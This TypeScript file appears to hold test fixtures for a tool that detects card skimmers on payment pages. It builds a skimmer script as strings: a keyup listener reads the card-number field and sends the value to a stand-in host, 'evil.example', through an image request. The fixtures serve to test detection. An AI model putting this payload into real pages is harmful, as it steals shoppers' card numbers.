import type { DifferenceKind } from "../../../../domain/payment-page/differences.ts";
import type { ShopPlan } from "../shop/shop.ts";

/** What an attacker does to a payment page, as data. */
export interface Skimmer extends Omit<ShopPlan, "form"> {
  readonly name: string;
  readonly form?: ShopPlan["form"];
  /** What has to be named, by kind and a part of what is said. */
  readonly named: readonly (readonly [DifferenceKind, string])[];
  /** Visits within which it has to be named. @default 1 */
  readonly visits?: number;
  /** Whether it would be in others' way on one page. @default - it stands on a page with others */
  readonly alone?: boolean;
}

const js = "text/javascript";
/** The field of the card's number, as scripts of the page find it. */
export const number = "document.getElementById('cc_number')";
/** Reads the field whenever a key goes up, and hands the value to `send`. */
export const onKey = (send: string) =>
  `document.addEventListener('keyup',function(){var v=${number}&&${number}.value;if(v&&v.length>15){${send}}});`;
/** An inline script. */
export const script = (code: string) => `<script>${code}</script>`;
/** Sends the value by a picture. */
export const image = "new Image().src='https://evil.example/i?c='+v;";
/** One file that is served. */
export const served = (path: string, content: string, type = js): Skimmer["files"] => ({ [path]: () => [type, content] });
